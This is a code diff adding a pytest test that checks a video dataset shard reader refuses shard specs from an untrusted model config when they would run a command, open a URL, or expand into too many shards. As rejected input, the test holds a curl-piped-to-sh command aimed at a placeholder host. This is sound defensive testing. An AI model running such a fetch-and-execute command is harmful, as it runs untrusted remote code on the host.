@@ -202,3 +202,15 @@ def test_members_larger_than_the_schema_allows_are_not_read(tmp_path, monkeypatc
     assert [s.text for s in read] == ["before", "after"]
     assert f"{path}: member v-s00001.txt is {(3 << 20)} bytes, more than the 1024 the schema allows; not read" in problems
     assert any("v-s00001" in p and "lacks its 'json' or 'txt' field" in p for p in problems)
+
+
+def test_shard_specs_from_a_model_config_name_local_shards_only(prepared):
+    """What ``videobert eval`` applies to the held-out shards a model's own config names."""
+    untrusted = dict(from_file="model/videobert-run.yaml", allow="add --trust-model-config")
+    assert reader.resolve_shards(str(prepared), **untrusted) == reader.resolve_shards(str(prepared))
+    for spec in ("pipe:curl -s https://example.invalid/x | sh", "https://example.invalid/shard-000000.tar",
+                 "{pipe:true,local}"):
+        with pytest.raises(reader.ShardSpecError, match="would run a command or open a URL.*--trust-model-config"):
+            reader.resolve_shards(spec, **untrusted)
+    with pytest.raises(reader.ShardSpecError, match="more than 100000 shards"):  # refused before braceexpand builds it
+        reader.resolve_shards("/data/shard-{000000000..999999999}.tar", **untrusted)
